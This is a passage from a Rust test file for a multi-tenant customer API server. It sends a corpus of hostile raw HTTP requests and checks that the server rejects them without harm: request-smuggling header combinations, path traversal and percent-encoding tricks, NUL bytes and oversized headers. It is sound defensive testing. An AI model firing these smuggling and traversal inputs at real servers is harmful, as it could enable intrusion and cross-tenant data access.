        ("negative Content-Length", update("x").add("Content-Length", "-1")),
        (
            "two different Content-Length headers",
            update("x").add("Content-Length", "16").add("Content-Length", "17"),
        ),
        ("malformed chunk size", update("x").set("Transfer-Encoding", "chunked")),
        ("NUL in a header value", update("x").add("X-Note", b"a\0b".to_vec())),
        ("space before the colon of a header", update("x").add("X-Note ", "v")),
        ("header line folded (obs-fold)", update("x").add("X-Note", b"a\r\n b".to_vec())),
        ("space in the request target", update("x").target("/network/customers/a b")),
    ] {
        let mut case = case.protocol().reject(400, &[]);
        case.name = format!("protocol: {name}");
        cases.push(case);
    }
    let many = (0..101).fold(update("protocol: 101 header fields"), |case, i| {
        case.add(&format!("X-Pad-{i}"), "p")
    });
    cases.push(many.protocol().reject(431, &[]));
    // Framing hyper accepts but a proxy in front may read differently (smuggling).
    for op in [Op::Create, Op::Update] {
        // hyper drops the Content-Length and reads the chunks (RFC 9112 §6.1
        // allows that, then requires closing the connection: see the test below).
        cases.push(
            Case::new(
                op,
                format!("Content-Length and Transfer-Encoding: chunked ({op:?})"),
                with_name("Chunked Wins", ""),
            )
            .chunked()
            .add("Content-Length", "5")
            .valid("Chunked Wins", vec![]),
        );
        cases.push(
            Case::new(
                op,
                format!("Transfer-Encoding: gzip, chunked ({op:?})"),
                with_name("Smuggled", ""),
            )
            .chunked()
            .set("Transfer-Encoding", "gzip, chunked")
            .reject(400, &["Transfer-Encoding"]),
        );
        cases.push(
            Case::new(
                op,
                format!("two Transfer-Encoding headers ({op:?})"),
                with_name("Smuggled", ""),
            )
            .chunked()
            .add("Transfer-Encoding", "chunked")
            .reject(400, &["Transfer-Encoding"]),
        );
    }
    cases.push(
        update("raw UTF-8 in the request target")
            .target("/network/customers/\u{1f980}".as_bytes().to_vec())
            .reject(404, &["not found"]),
    );
    cases.push(
        // Over the spec's maxLength of 1024 (issue 12): refused as invalid.
        update("64 KB If-Match of garbage")
            .add("If-Match", "x".repeat(64 * 1024))
            .reject(400, &["If-Match", "1024"]),
    );
    cases.push(
        update("If-Match with a weak ETag").add("If-Match", "W/\"1\"").reject(412, &["ETag"]),
    );
    cases.push(update("If-Match with version 0").add("If-Match", "\"0\"").reject(412, &["ETag"]));
    cases.push(
        update("If-Match with an overflowing version")
            .add("If-Match", "\"99999999999999999999\"")
            .reject(412, &["ETag"]),
    );
    cases.push(
        update("two If-Match headers, both stale")
            .add("If-Match", "\"999\"")
            .add("If-Match", "\"1000\"")
            .reject(412, &["ETag"]),
    );
    // Repeated If-Match headers are one list (RFC 9110 §5.3): either order matches.
    for (first, second) in [("\"7\"", "\"1\""), ("\"1\"", "\"7\"")] {
        cases.push(
            Case::new(
                Op::Update,
                format!("two If-Match headers {first} and {second} (one current)"),
                with_name("If-Match List", ""),
            )
            .add("If-Match", first)
            .add("If-Match", second)
            .valid("If-Match List", vec![]),
        );
    }
    for (target, status, needles, router) in [
        ("/network/customers/a%2Fb", 404, &["not found"][..], false),
        ("/network/customers/%2F", 404, &["not found"], false),
        ("/network/customers/{id}%2F..%2F{id}", 404, &["not found"], false),
        ("/network/customers/..", 400, &["path"], true),
        ("/network/customers/.", 400, &["path"], true),
        ("/network/customers/{id}/..", 400, &["path"], true),
        ("/network/customers/../customers/{id}", 400, &["path"], true),
        ("/network/customers/%2E%2E", 404, &["not found"], false),
        ("/network/customers/%2e", 404, &["not found"], false),
        ("/network/customers/%25", 404, &["not found"], false),
        ("/network/customers/%", 404, &["not found"], false),
        ("/network/customers/{id}%", 404, &["not found"], false),
        ("/network/customers/%zz", 404, &["not found"], false),
        ("/network/customers/%FF", 400, &["path"], true),
        ("/network/customers/%C0%AF", 400, &["path"], true),
        ("/network/customers/%00", 400, &["customerId", "NUL"], false),
        ("/network/customers/{id}%00", 400, &["customerId", "NUL"], false),
        ("/network/customers/%C3%A9", 404, &["not found"], false),
        ("/network/customers/%F0%9F%A6%80", 404, &["not found"], false),
        ("/network/customers/%E2%80%AE{id}", 404, &["not found"], false),
        ("/network/customers/{id}%20", 404, &["not found"], false),
        ("/network/customers/{id};v=1", 404, &["not found"], false),
        ("/network/customers/{id}/extra", 404, &["not found"], true),
        ("/network/customers/", 405, &["method"], true),
        ("/network/customers", 405, &["method"], true),
        ("/NETWORK/customers/{id}", 404, &["not found"], true),
        ("/network/customers/{id}x", 404, &["not found"], false),
    ] {
        let mut case = update(&format!("path {target}")).target(target).reject(status, needles);
        if router {
            case = case.router();
        }
        cases.push(case);
    }
    let long = "x".repeat(129);
    cases.push(
        update("path id of 129 characters")
            .target(format!("/network/customers/{long}"))
            .reject(400, &["customerId", "128"]),
    );
    cases.push(
        update("path id of 10000 characters")
            .target(format!("/network/customers/{}", "x".repeat(10_000)))
            .reject(400, &["customerId", "128"]),
    );
    cases.push(
        update("path id of 128 characters (valid, unknown)")
            .target(format!("/network/customers/{}", "x".repeat(128)))
            .reject(404, &["not found"]),
    );
    cases.push(
        update("path id of 129 é")
            .target(format!("/network/customers/{}", "%C3%A9".repeat(129)))
            .reject(400, &["customerId", "128"]),
    );
    // Check order: a malformed body is a 400 before a 404 (never reveals existence).
    cases.push(
        Case::new(Op::Update, "invalid body on an unknown id", r#"{"name":""}"#)
            .target("/network/customers/does-not-exist")
            .reject(400, &["name"]),
    );
    // Dropshot collapses empty segments: this addresses the customer itself.
    cases.push(
        Case::new(
            Op::Update,
            "path //network//customers//{id} (empty segments collapse)",
            with_name("Slashes", ""),
        )
        .target("//network//customers//{id}")
        .valid("Slashes", vec![]),
    );
    cases
}

fn corpus() -> Vec<Case> {
    let mut cases = Vec::new();
    for body_case in body_cases() {
        for op in [Op::Create, Op::Update] {
            let mut case =
                Case::new(op, format!("{} ({op:?})", body_case.name), body_case.body.clone());
            case.expect = body_case.expect.clone();
            cases.push(case);
        }
    }
    cases.extend(request_cases());
    cases
}

/// Checks one rejected case; returns the problem, if any.
fn judge_rejection(case: &Case, response: &RawResponse) -> Option<String> {
    let Expect::Reject { status, needles } = &case.expect else { unreachable!() };
    if response.status >= 500 {
        return Some(format!("5xx: {} {}", response.status, response.text()));
    }
    if response.status != *status {
        return Some(format!("expected {status}, got {} {}", response.status, response.text()));
    }
    if case.protocol {
        return None;
    }
    let Some(body) = response.json() else {
        return Some(format!("body is not JSON: {}", response.text()));
    };
    let Some(message) = body.get("message").and_then(Value::as_str) else {
        return Some(format!("no message: {body}"));
    };
    if !case.router && body.as_object().map(|o| o.len()) != Some(1) {
        return Some(format!("error body is not exactly {{\"message\"}}: {body}"));
    }
    let lower = message.to_lowercase();
    let missing: Vec<&String> =
        needles.iter().filter(|needle| !lower.contains(&needle.to_lowercase())).collect();
    if !missing.is_empty() {
        return Some(format!("message {message:?} does not mention {missing:?}"));
    }
    None
}

#[tokio::test]
async fn the_hostile_corpus_is_rejected_without_harm_and_valid_surprises_round_trip() {
    let app = spawn_app().await;
    let addr = addr_of(&app);
    // Some data worth protecting: a victim with every field set, and neighbours.
    let created = send_simple(&app, "POST", "/network/customers", Some(FULL)).await;
    assert_eq!(created.status, 201, "{}", created.text());
    let victim = created.json().unwrap()["id"].as_str().unwrap().to_string();
    for name in ["Neighbour One", "Neighbour Two"] {
        app.create(name).await;
    }
    let globex = mint(&claims(OTHER_TENANT, "g", ALL));
    raw(
        reqwest::Method::POST,
        &app.url("/network/customers"),
        Some(&globex),
        Some(OTHER_TENANT),
        Some(r#"{"name":"Globex","properties":{"x":"y"}}"#),
    )
    .await;

    let cases = corpus();
    let mut names = std::collections::BTreeSet::new();
    for case in &cases {
        assert!(names.insert(case.name.clone()), "duplicate case name {}", case.name);
    }
    let mut distinct = std::collections::HashMap::new();
    for case in &cases {
        if let Some(other) = distinct.insert(case.request(&victim), &case.name) {
            panic!("{} and {other} are the same request", case.name);
        }
    }
    let (rejected, valid): (Vec<&Case>, Vec<&Case>) = cases.iter().partition(|c| !c.is_valid());
    let dump = std::env::var("HOSTILE_DUMP").is_ok();

    let before = tenant_checksum(&app, TENANT).await;
    let other_before = tenant_checksum(&app, OTHER_TENANT).await;
    let mut failures = Vec::new();
    let started = Instant::now();
    for case in &rejected {
        match send_raw(&addr, case.request(&victim)).await {
            Err(error) => failures.push(format!("{}: no answer: {error}", case.name)),
            Ok(response) => {
                if dump {
                    eprintln!("{:>3} {:<70} {}", response.status, case.name, response.text());
                }
                if let Some(problem) = judge_rejection(case, &response) {
                    failures.push(format!("{}: {problem}", case.name));
                }
            }
        }
        assert_healthy(&app, &case.name).await;
    }
    let after = tenant_checksum(&app, TENANT).await;
    let other_after = tenant_checksum(&app, OTHER_TENANT).await;

    // The valid ones, each on its own customer.
    for case in &valid {
        let Expect::Valid { name, fields } = &case.expect else { unreachable!() };
        let (id, before_customer) = match case.op {
            Op::Update => {
                let scratch = send_simple(&app, "POST", "/network/customers", Some(FULL)).await;
                let scratch = scratch.json().unwrap();
                (scratch["id"].as_str().unwrap().to_string(), Some(scratch))
            }
            Op::Create => (String::new(), None),
        };
        let sent_at = network_server::domain::now_millis();
        let response = match send_raw(&addr, case.request(&id)).await {
            Ok(response) => response,
            Err(error) => {
                failures.push(format!("{}: no answer: {error}", case.name));
                continue;
            }
        };
        if dump {
            eprintln!("{:>3} {:<70} {}", response.status, case.name, response.text());
        }
        let expected_status = if case.op == Op::Create { 201 } else { 200 };
        if response.status != expected_status {
            failures.push(format!(
                "{}: valid input, expected {expected_status}, got {} {}",
                case.name,
                response.status,
                response.text()
            ));
            assert_healthy(&app, &case.name).await;
            continue;
        }
        let answered = response.json().expect("a customer");
        let id = answered["id"].as_str().unwrap().to_string();
        let stored = send_simple(&app, "GET", &format!("/network/customers/{id}"), None).await;
        let stored_json = stored.json().unwrap();
        let mut problems = Vec::new();
        if stored_json != answered {
            problems.push(format!("GET differs from the answer: {stored_json} vs {answered}"));
        }
        if stored_json["name"].as_str() != Some(name.as_str()) {
            problems.push(format!("name stored as {:?}, sent {name:?}", stored_json["name"]));
        }
        for (field, value) in fields {
            let actual = stored_json.get(*field).cloned().unwrap_or(Value::Null);
            if &actual != value {
                problems.push(format!("{field} is {actual}, expected {value}"));
            }
        }
        // Server-managed fields are never taken from the body.
        match &before_customer {
            Some(before) => {
                if stored_json["id"] != before["id"]
                    || stored_json["creationTimestamp"] != before["creationTimestamp"]
                {
                    problems
                        .push(format!("server-managed fields changed: {before} → {stored_json}"));
                }
                if stored.header("etag") != Some("\"2\"") {
                    problems.push(format!("ETag after one update is {:?}", stored.header("etag")));
                }
            }
            None => {
                let created = stored_json["creationTimestamp"].as_i64().unwrap_or(0);
                if !(sent_at..=network_server::domain::now_millis()).contains(&created) {
                    problems.push(format!("creationTimestamp {created} not set by the server"));
                }
            }
        }
        for field in ["firstAccessTimestamp", "lastAccessTimestamp"] {
            if stored_json.get(field).is_some_and(|v| !v.is_null()) {
                problems.push(format!("{field} was taken from the body: {stored_json}"));
            }
        }
        if !problems.is_empty() {
            failures.push(format!("{}: {}", case.name, problems.join("; ")));
        }
        assert_healthy(&app, &case.name).await;
    }

    let elapsed = started.elapsed();
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    assert_eq!(before, after, "the tenant's data changed during the rejected requests");
    assert_eq!(other_before, other_after, "the other tenant's data changed");
    eprintln!(
        "hostile corpus: {} distinct raw requests ({} rejected, {} valid) against createCustomer and updateCustomer in {:.1?}; tenant checksum {} over {} customers unchanged",
        cases.len(),
        rejected.len(),
        valid.len(),
        elapsed,
        &before.0[..16],
        before.1
    );
    app.stop().await;
}

/// RFC 9112 §6.1: a server that processes a request with both
/// `Transfer-Encoding` and `Content-Length` by the former "MUST close the
/// connection after responding", so nothing smuggled after it is served.
#[tokio::test]
async fn both_content_length_and_chunked_are_read_as_chunked_and_the_connection_is_closed() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    let app = spawn_app().await;
    let body = chunked(br#"{"name":"Chunked"}"#);
    let mut request = format!(
        "POST /network/customers HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n\
         X-Servitly-Tenant: {TENANT}\r\nContent-Type: application/json\r\n\
         Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n",
        admin_token()
    )
    .into_bytes();
    request.extend_from_slice(&body);
    // A pipelined request that must never be answered on this connection.
    request.extend_from_slice(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n");
    let mut stream = tokio::net::TcpStream::connect(addr_of(&app)).await.unwrap();
    stream.write_all(&request).await.unwrap();
    let mut received = Vec::new();
    let read =
        tokio::time::timeout(std::time::Duration::from_secs(5), stream.read_to_end(&mut received))
            .await;
    assert!(read.is_ok(), "the server kept the connection open");
    let text = String::from_utf8_lossy(&received);
    assert!(text.starts_with("HTTP/1.1 201"), "{text}");
    assert_eq!(text.matches("HTTP/1.1 ").count(), 1, "only one response: {text}");
    app.stop().await;
}
